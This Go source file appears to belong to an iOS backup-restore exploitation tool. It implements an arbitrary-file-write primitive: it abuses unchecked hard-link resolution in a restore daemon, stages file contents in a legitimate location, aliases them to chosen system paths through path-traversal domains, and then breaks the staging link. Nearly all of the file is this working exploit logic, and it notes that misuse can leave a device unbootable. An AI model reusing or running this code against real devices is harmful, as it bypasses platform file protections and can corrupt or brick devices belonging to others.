// Package alias writes arbitrary files through the restore daemon's hard-link
// handling.
//
// The daemon validates a file's destination when it writes contents, but
// resolves the path of a record that shares a link group with an earlier one
// without any checks. Each request is therefore written to a legitimate
// staging location first, aliased to its real destination through a
// traversal domain, and finally unlinked from the staging location.
package alias

import (
	"fmt"
	"path"
	"strconv"
	"strings"

	"github.com/gentoomaniac/sparsebox/pkg/backup"
	"github.com/gentoomaniac/sparsebox/pkg/traversal"
)

const (
	StagingDomain = "RootDomain"
	StagingDir    = "Library/Preferences"
	// StagingRoot is where StagingDomain lands on the device while a
	// restore is in progress.
	StagingRoot = "/var/.backup.i/var/root"

	linkBreakOwner = 501
	linkBreakGroup = 501
)

// Request is one file to place on the device.
type Request struct {
	Destination string
	Contents    []byte
	Owner       uint32
	Group       uint32
}

// TraversalUnavailableError is returned when a destination of the batch
// cannot be encoded. No entries are emitted in that case.
type TraversalUnavailableError struct {
	Path string
	Err  error
}

func (e *TraversalUnavailableError) Error() string {
	return fmt.Sprintf("traversal unavailable for %s: %v", e.Path, e.Err)
}

func (e *TraversalUnavailableError) Unwrap() error { return e.Err }

type Engine struct {
	Encoder    *traversal.Encoder
	Capability traversal.Capability
}

func New(enc *traversal.Encoder, c traversal.Capability) *Engine {
	return &Engine{Encoder: enc, Capability: c}
}

// StagingPath is the relative path of request i inside StagingDomain.
func StagingPath(i int) string {
	return path.Join(StagingDir, "temp"+strconv.Itoa(i))
}

// RestoreRoot returns the backup root on the same volume as dst. Aliasing
// across volumes fails and leaves the device unbootable.
func RestoreRoot(dst string) string {
	switch {
	case strings.HasPrefix(dst, "/var/mobile/"):
		return "/var/mobile/backup"
	case strings.HasPrefix(dst, "/private/var/mobile/"):
		return "/private/var/mobile/backup"
	case strings.HasPrefix(dst, "/private/var/"):
		return "/private/var/backup"
	}
	return "/var/backup"
}

type destination struct {
	dir, file, unlink string
}

// Build returns the entries for the batch: the staging scaffold, then every
// staging write, then every destination directory and alias, then every
// link break. Each request keeps the order staging write, destination
// directory, destination alias, link break.
func (e *Engine) Build(reqs []Request) ([]backup.Entry, error) {
	dsts := make([]destination, len(reqs))
	for i, r := range reqs {
		d, err := e.encode(i, r.Destination)
		if err != nil {
			return nil, err
		}
		dsts[i] = d
	}

	entries := []backup.Entry{
		backup.NewDirectory(StagingDomain, "", 0, 0),
		backup.NewDirectory(StagingDomain, "Library", 0, 0),
		backup.NewDirectory(StagingDomain, StagingDir, 0, 0),
	}

	for i, r := range reqs {
		f := backup.FileFromBytes(StagingDomain, StagingPath(i), r.Contents, r.Owner, r.Group)
		f.LinkGroup = backup.Link(uint64(i))
		entries = append(entries, f)
	}

	for i, r := range reqs {
		entries = append(entries, backup.NewDirectory(dsts[i].dir, "", r.Owner, r.Group))
		f := backup.FileFromBytes(dsts[i].file, "", nil, r.Owner, r.Group)
		f.LinkGroup = backup.Link(uint64(i))
		entries = append(entries, f)
	}

	for i := range reqs {
		f := backup.FileFromBytes(dsts[i].unlink, "", nil, linkBreakOwner, linkBreakGroup)
		f.LinkGroup = backup.Link(uint64(i))
		entries = append(entries, f)
	}
	return entries, nil
}

func (e *Engine) encode(i int, dst string) (destination, error) {
	if !path.IsAbs(dst) {
		return destination{}, &TraversalUnavailableError{Path: dst, Err: traversal.ErrRelativeTarget}
	}
	dst = path.Clean(dst)
	root := RestoreRoot(dst)

	var d destination
	var err error
	if d.dir, err = e.Encoder.Encode(e.Capability, root+path.Dir(dst)); err != nil {
		return destination{}, &TraversalUnavailableError{Path: dst, Err: err}
	}
	if d.file, err = e.Encoder.Encode(e.Capability, root+dst); err != nil {
		return destination{}, &TraversalUnavailableError{Path: dst, Err: err}
	}
	if d.unlink, err = e.Encoder.Encode(e.Capability, path.Join(StagingRoot, StagingPath(i))); err != nil {
		return destination{}, &TraversalUnavailableError{Path: dst, Err: err}
	}
	return d, nil
}
